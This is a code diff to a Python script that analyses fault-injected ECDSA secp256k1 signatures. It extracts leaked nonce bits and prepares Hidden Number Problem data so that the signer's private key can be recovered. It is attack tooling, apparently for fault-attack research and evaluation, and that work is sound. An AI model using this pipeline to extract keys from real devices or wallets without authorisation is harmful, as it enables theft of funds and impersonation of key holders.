@@ -3,10 +3,14 @@ from hashlib import sha256
 import argparse
 import os
 import sys
+import time
 
 sys.path.insert(0, '../pysimul/')
 from pydfa.ec import *
-from pydfa.dfa_analysis import dfa_swap_analysis
+from pydfa.dfa_analysis import dfa_swap_dlogs, dfa_sweep_from_points, sweep_leak, hnp_row_normal, AnalysisContext
+from pydfa.dfa_dl import set_dlog_method, DLOG_METHODS
+from pydfa.dfa_leakfile import leak_writer
+from pydfa.dfa_results import ResultStore
 
 
 def pubkey_to_point(curve, pubkey_filename):
@@ -42,71 +46,137 @@ def msg_to_integer(msg_filename):
 
 
 
-def launch_attack(sig_filename, msg_filename, pubkey_filename, skip_min, skip_max, results_filename):
+def sweep_analysis(curve, msg, sig, Q, QQ_list, skip_min, skip_max, confidence, ctx):
+    '''
+    Analysis of an invalid signature for all the steps of the fault in [skip_min, skip_max] with a single
+    discrete logarithm, returns the status of the analysis, the bits found (nbits, lsb) and the row for HNP
+    with as many bits as the most likely steps allow (or None)
+    '''
+    leak = dfa_sweep_from_points(curve, Q, QQ_list, skip_min, skip_max, ctx)
+    if len(leak) == 0:
+        print('  Nothing found: fault might not have been correctly injected')
+        return 'nothing found', None, None, None
+    if len(leak) > 1:
+        print('  Too many solutions found: ignored')
+        return 'ambiguous', None, None, None
+
+    steps = leak[0]
+    for j, lsb, conf in steps:
+        print(f'  step {j}: padded nonce mod 2^{j} = {lsb} (confidence {conf:.3f})')
+
+    nbits, lsb = sweep_leak(steps, confidence)
+    if nbits == 0 or lsb == 0:
+        print(f'  padded nonce mod 2^{nbits} = 0, could be a false positive: ignored')
+        return 'ignored', nbits, lsb, None
+    print(f'  {nbits} bits kept: padded nonce mod 2^{nbits} = {lsb}')
+
+    r, s = sig
+    text, row = hnp_row_normal(curve, msg, r, s, False, [lsb], nbits)
+    return 'found', nbits, lsb, row
+
+
+def launch_attack(sig_filename, msg_filename, pubkey_filename, skip_min, skip_max, results_filename, sweep=False, confidence=1.0,
+                  db_filename=None):
+    '''
+    Analysis of the signatures and file for HNP. With `db_filename`, the result of the analysis of each signature
+    is also appended to this SQLite database (see pydfa.dfa_results), the position being the index of the signature.
+    '''
     curve = CurveJac(SECP256K1)
     pubkey = pubkey_to_point(curve, pubkey_filename)
     list_sig = sig_to_integer(sig_filename)
     msg = msg_to_integer(msg_filename)
+    ctx = AnalysisContext(curve, skip_max)
+
+    store = None
+    if db_filename is not None:
+        params = {'signatures': os.path.basename(sig_filename), 'message': f'{msg:x}', 'pubkey': pubkey[0].hex(),
+                  'skip': [skip_min, skip_max], 'sweep': sweep, 'confidence': confidence}
+        store = ResultStore(db_filename, params)
+
+    def record(i, status, nbits=None, lsb=None):
+        if store is not None:
+            store.append(i, 'signature', x=list_sig[i][0], candidates=len(list_points[i][2]), nbits=nbits, lsb=lsb,
+                         status=status, time=time.perf_counter() - start)
+
+    list_points = points_from_sigs(curve, pubkey, [(msg, r, s) for r, s in list_sig])
+    Ui, Vi, Li, Si = [], [], [], []
+
+    # the rows not yet committed are kept if the analysis is interrupted
+    try:
+        for i in range(len(list_sig)):
+            sig = list_sig[i]
+            start = time.perf_counter()
+
+            # analysis
+            valid, Q, QQ_list = list_points[i]
+
+            if valid:
+                print(f'Signature {i} is valid: ineffective fault or no fault injected')
+                record(i, 'valid')
+                continue
         
-    Ui, Vi, Li = [], [], []
-
-    for i in range(len(list_sig)):
-        sig = list_sig[i]
-
-        # analysis
-        valid, Q, QQ_list = points_from_sig(curve, pubkey, msg, sig)
-
-        if valid:
-            print(f'Signature {i} is valid: ineffective fault or no fault injected')
-            continue
-        
-        print(f'Signature {i} invalid: fault was effective')
-        leak = []
-        for QQ in QQ_list:
-            found, lsb = dfa_swap_analysis(curve, Q, QQ, skip_max)
-            if found:
-                leak.append(lsb % 2**skip_min)
-
-        if len(leak) == 0:
-            print('  Nothing found: fault might not have been correctly injected')
-            continue
-        if len(leak) > 1:
-            print('  Too many solutions found: ignored')
-            continue
-        lsb = leak[0]
-        if lsb == 0:
-            print('  padded nonce mod 2^{skip_min} = 0, could be a false positive: ignored')
-            continue
-        print(f'  padded nonce mod 2^{skip_min} = {lsb}')
-
-
-        # write data for Hidden Number Problem
-        B1 = (2**curve.order.bit_length() - lsb + 1) >> skip_min
-        B2 = (2**curve.order.bit_length() + curve.order - lsb) >> skip_min
+            print(f'Signature {i} invalid: fault was effective')
+            if sweep:
+                status, nbits, lsb, row = sweep_analysis(curve, msg, sig, Q, QQ_list, skip_min, skip_max, confidence, ctx)
+                record(i, status, nbits, lsb)
+                if row is not None:
+                    u, vv, LL = row
+                    Ui.append(u)
+                    Vi.append(vv)
+                    Li.append(LL)
+                    Si.append(i)
+                continue
+
+            leak = [dl//2 % 2**skip_min for dl in dfa_swap_dlogs(curve, Q, QQ_list, skip_max, ctx) if dl is not None]
+
+            if len(leak) == 0:
+                print('  Nothing found: fault might not have been correctly injected')
+                record(i, 'nothing found')
+                continue
+            if len(leak) > 1:
+                print('  Too many solutions found: ignored')
+                record(i, 'ambiguous')
+                continue
+            lsb = leak[0]
+            if lsb == 0:
+                print('  padded nonce mod 2^{skip_min} = 0, could be a false positive: ignored')
+                record(i, 'ignored', skip_min, lsb)
+                continue
+            print(f'  padded nonce mod 2^{skip_min} = {lsb}')
+            record(i, 'found', skip_min, lsb)
+
+
+            # write data for Hidden Number Problem
+            B1 = (2**curve.order.bit_length() - lsb + 1) >> skip_min
+            B2 = (2**curve.order.bit_length() + curve.order - lsb) >> skip_min
         
-        C = (B1 + B2)//2
-        LL = curve.order//(B2 - B1)
+            C = (B1 + B2)//2
+            LL = curve.order//(B2 - B1)
         
-        r, s = sig
-        tmp = invmod(s*2**skip_min, curve.order)
-        u = r*tmp % curve.order
-        v = (msg - s*lsb)*tmp % curve.order
-        vv = C - v
+            r, s = sig
+            tmp = invmod(s*2**skip_min, curve.order)
+            u = r*tmp % curve.order
+            v = (msg - s*lsb)*tmp % curve.order
+            vv = C - v
         
-        Ui.append(u)
-        Vi.append(vv)
-        Li.append(LL)
+            Ui.append(u)
+            Vi.append(vv)
+            Li.append(LL)
+            Si.append(i)
 
+    finally:
+        if store is not None:
+            store.close()
 
     n = len(Ui)
     print(f'Number of useful faults: {n}')
+    if store is not None:
+        print(f'The result of the analysis of each signature is stored in {db_filename}')
 
-    f = open(results_filename, 'w')
-    # We only keep the curve name and the public key
-    f.write(f'{curve.name},{pubkey[0].hex()},{pubkey[1].hex()}\n')
-    for u,v,L in zip(Ui,Vi,Li):
-        f.write(f'{u:x},{v:x},{L}\n')
-    f.close()
+    # the index of the signature is only kept in the binary format
+    with leak_writer(results_filename, curve, pubkey, skip_min, None, 'sweep' if sweep else 'normal', ('signature',)) as f:
+        for u, v, L, i in zip(Ui, Vi, Li, Si):
+            f.write(u, v, L, i)
         
     print(f'The results of the analysis are stored in {results_filename}')
     print(f'Run the command "python3 solve_hnp.py {results_filename}" to find the private key')
@@ -132,9 +202,23 @@ if __name__ == '__main__':
 
     parser.add_argument('--out', action='store', dest='results_filename', type=str,
                         help='file name to store the results of analysis', required=True)
+
+    parser.add_argument('--sweep', action='store_true', dest='sweep',
+                        help='Analysis for each step of the fault between min and max, with a single discrete logarithm')
+
+    parser.add_argument('--confidence', action='store', dest='confidence', type=float, default=1.0,
+                        help='With --sweep, keep all the bits of the most likely step if its confidence is at least this value')
+
+    parser.add_argument('--dlog', action='store', dest='dlog', type=str, default='bsgs', choices=DLOG_METHODS,
+                        help=f'Discrete logarithm method, choose amongst: {DLOG_METHODS} (auto: BSGS if its table fits in memory)')
     
+    parser.add_argument('--db', action='store', dest='db_filename', type=str,
+                        help='SQLite database where the result of the analysis of each signature is appended')
+
     args = parser.parse_args()    
+    set_dlog_method(args.dlog)
 
-    launch_attack(args.sig_filename, args.msg_filename, args.pubkey_filename, args.skip[0], args.skip[1], args.results_filename)
+    launch_attack(args.sig_filename, args.msg_filename, args.pubkey_filename, args.skip[0], args.skip[1], args.results_filename,
+                  args.sweep, args.confidence, args.db_filename)
 
     